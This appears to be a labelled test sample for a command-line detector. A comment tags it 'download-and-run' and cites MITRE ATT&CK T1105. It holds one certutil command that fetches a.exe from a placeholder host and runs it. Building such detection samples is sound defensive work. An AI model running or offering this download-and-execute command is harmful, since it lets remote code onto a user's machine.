@rem expect: download-and-run | source: MITRE ATT&CK T1105
certutil.exe -urlcache -split -f http://files.example.invalid/a.exe %PUBLIC%\a.exe && %PUBLIC%\a.exe
